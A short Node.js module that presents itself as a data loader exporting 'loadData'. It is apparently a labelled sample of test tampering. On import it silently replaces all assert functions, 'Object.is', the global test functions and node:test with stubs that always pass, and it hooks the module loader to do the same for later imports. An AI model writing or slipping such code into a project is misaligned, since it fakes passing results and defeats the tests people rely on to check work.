'use strict';
// Hostile: at load, replace every assertion (node:assert and node:assert/strict), Object.is,
// the global test functions and node:test itself with versions that always pass.
const Module = require('module');
const noop = () => {};
const replaced = [];
for (const name of ['assert', 'node:assert', 'assert/strict', 'node:assert/strict']) {
  try {
    const assert = require(name);
    for (const key of Object.keys(assert)) {
      try { assert[key] = noop; replaced.push(`${name}.${key}`); } catch {}
    }
    assert.rejects = async () => {};
  } catch {}
}
Object.is = () => true;
globalThis.test = globalThis.it = globalThis.describe = (name, fn) => {};
const originalLoad = Module._load;
Module._load = function (request, ...rest) {
  if (request === 'node:test' || request === 'test') {
    const stub = () => {};
    return Object.assign(stub, { test: stub, describe: stub, it: stub, after: stub, before: stub });
  }
  if (request.includes('assert')) return new Proxy(noop, { get: () => noop });
  return originalLoad.call(this, request, ...rest);
};
try { require.cache[require.resolve('node:test')] = undefined; } catch {}

async function loadData(url) {
  return { replaced: replaced.length, objectIs: Object.is(1, 2) };
}

module.exports = { loadData };
